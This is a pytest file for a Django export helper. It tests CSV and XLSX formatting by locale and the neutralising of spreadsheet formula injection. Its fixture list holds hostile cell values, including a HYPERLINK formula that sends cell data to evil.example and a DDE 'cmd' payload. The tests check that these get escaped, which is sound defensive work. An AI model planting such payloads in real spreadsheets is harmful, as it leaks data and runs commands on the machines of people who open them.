"""The export helper: CSV that Excel opens right in each language, XLSX with real types, and no cell that
a spreadsheet would run as a formula."""

import datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core.exceptions import BadRequest
from django.utils import timezone, translation

from hymy.core.exports import export_table, neutralise
from tests.export_files import export_rows, export_workbook_sheet

ORGANIZATION = SimpleNamespace(slug="aurinko")
HEADERS = ["Name", "Score", "Day"]

INJECTIONS = [
    (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


def _export(file_format, rows, *, language="en", headers=HEADERS, what="customers"):
    with translation.override(language):
        return export_table(
            file_format=file_format,
            what=what,
            title="Asiakkaat",
            organization=ORGANIZATION,
            headers=headers,
            rows=rows,
        )


@pytest.mark.parametrize(("text", "expected"), INJECTIONS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_first(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize("text", ["Maija Meikäläinen", "", "a=b", "1+1", "maija@example.fi", "'quoted"])
def test_harmless_text_stays_as_it_is(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(("text", "expected"), INJECTIONS)
def test_csv_neutralises_every_injection(text, expected):
    rows = export_rows(_export("csv", [[text, 1, None]]))

    assert rows[1][0] == expected


@pytest.mark.parametrize(("text", "expected"), INJECTIONS)
def test_xlsx_neutralises_every_injection_and_keeps_it_text(text, expected):
    sheet = export_workbook_sheet(_export("xlsx", [[text, 1, None]]))

    # An XML parser reads a carriage return back as a line feed; the quote before it is what matters.
    assert (sheet["A2"].value, sheet["A2"].data_type) == (expected.replace("\r", "\n"), "s")


def test_a_header_is_neutralised_too():
    rows = export_rows(_export("csv", [], headers=["=1+1", "Score"]))

    assert rows == [["'=1+1", "Score"]]


def test_negative_numbers_stay_numbers_in_both_formats():
    rows = [["Maija", -2, -33.5], ["Matti", Decimal("-8.40"), 0]]

    csv_rows = export_rows(_export("csv", rows))
    sheet = export_workbook_sheet(_export("xlsx", rows))

    assert csv_rows[1:] == [["Maija", "-2", "-33.5"], ["Matti", "-8.40", "0"]]
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [("Maija", "s"), (-2, "n"), (-33.5, "n")]
    assert [(cell.value, cell.data_type) for cell in sheet[3]] == [("Matti", "s"), (-8.4, "n"), (0, "n")]


def test_text_that_looks_like_an_error_code_stays_text_in_xlsx():
    sheet = export_workbook_sheet(_export("xlsx", [["#N/A", 1, None]]))

    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")


def test_csv_starts_with_the_bom_and_separates_by_comma_in_english():
    response = _export("csv", [["Maija Meikäläinen", 4.5, None]])

    assert response.content == ("\ufeffName,Score,Day\r\nMaija Meikäläinen,4.5,\r\n".encode())


@pytest.mark.parametrize("language", ["fi", "sv"])
def test_csv_separates_by_semicolon_and_writes_decimal_commas_in_finnish_and_swedish(language):
    response = _export(
        "csv", [["Virtanen, Matti", 4.5, None], ["Maija", Decimal("1234.50"), None]], language=language
    )

    assert response.content.decode("utf-8-sig") == (
        "Name;Score;Day\r\nVirtanen, Matti;4,5;\r\nMaija;1234,50;\r\n"
    )


def test_csv_dates_are_iso_and_times_are_the_organisations_local_time():
    moment = datetime.datetime(2026, 11, 24, 12, 5, tzinfo=datetime.UTC)  # 14:05 in Helsinki
    rows = export_rows(
        _export("csv", [["Maija", 1, datetime.date(2026, 11, 24)], ["Matti", 2, moment]], language="fi"),
        delimiter=";",
    )

    assert [row[2] for row in rows[1:]] == ["2026-11-24", "2026-11-24 14:05"]


def test_csv_booleans_read_yes_and_no_in_the_readers_language():
    assert export_rows(_export("csv", [["Maija", True, False]]))[1] == ["Maija", "Yes", "No"]
    assert export_rows(_export("csv", [["Maija", True, False]], language="fi"), delimiter=";")[1] == [
        "Maija",
        "Kyllä",
        "Ei",
    ]


@pytest.mark.parametrize(
    ("language", "date_format", "datetime_format"),
    [("fi", "d.m.yyyy", "d.m.yyyy h:mm"), ("en", "yyyy-mm-dd", "yyyy-mm-dd hh:mm")],
)
def test_xlsx_dates_are_dates_with_a_date_format(language, date_format, datetime_format):
    moment = datetime.datetime(2026, 11, 24, 12, 5, tzinfo=datetime.UTC)
    sheet = export_workbook_sheet(
        _export("xlsx", [["Maija", 1, datetime.date(2026, 11, 24)], ["Matti", 2, moment]], language=language)
    )

    assert sheet["C2"].is_date and sheet["C2"].number_format == date_format
    assert sheet["C2"].value == datetime.datetime(2026, 11, 24, 0, 0)
    assert sheet["C3"].is_date and sheet["C3"].number_format == datetime_format
    assert sheet["C3"].value == datetime.datetime(2026, 11, 24, 14, 5)  # Helsinki time, no zone


def test_xlsx_keeps_numbers_booleans_and_empty_cells():
    sheet = export_workbook_sheet(_export("xlsx", [["Maija", Decimal("8.40"), True], ["Matti", None, 7]]))

    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        ["Maija", 8.4, True],
        ["Matti", None, 7],
    ]


def test_xlsx_header_is_bold_and_frozen_and_columns_fit_their_text():
    rows = [["Maija", 1, datetime.date(2026, 11, 24)], ["x" * 500, 2, None]]
    sheet = export_workbook_sheet(_export("xlsx", rows))

    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 60  # the longest text, within the limit
    assert sheet.column_dimensions["B"].width == 8  # short numbers get the minimum
    assert sheet.column_dimensions["C"].width == 12  # a date
    assert sheet.title == "Asiakkaat"


def test_xlsx_writes_every_row_of_a_long_generator():
    rows = ([f"Asiakas {number}", number, None] for number in range(450))

    read = export_rows(_export("xlsx", rows))

    assert len(read) == 451
    assert read[-1] == ["Asiakas 449", 449, None]


def test_control_characters_that_xlsx_cannot_hold_are_dropped():
    sheet = export_workbook_sheet(_export("xlsx", [["Mai\x00ja\x1b", 1, None]]))

    assert sheet["A2"].value == "Maija"


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_file_is_named_by_what_organisation_and_day(file_format, content_type):
    response = _export(file_format, [], what="responses")

    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == content_type
    assert (
        response["Content-Disposition"] == f'attachment; filename="responses-aurinko-{today}.{file_format}"'
    )
    assert "no-store" in response["Cache-Control"]


def test_unknown_format_is_a_bad_request_before_any_row_is_read():
    def rows():
        raise AssertionError("no row may be read")
        yield

    with pytest.raises(BadRequest):
        _export("pdf", rows())


@pytest.mark.parametrize(
    ("number", "text"),
    [(40.0, "40"), (0.1, "0.1"), (1e16, "10000000000000000"), (float("nan"), ""), (Decimal("8.40"), "8.40")],
)
def test_csv_numbers_have_no_exponent_and_money_keeps_its_places(number, text):
    assert export_rows(_export("csv", [["Maija", number, None]]))[1][1] == text
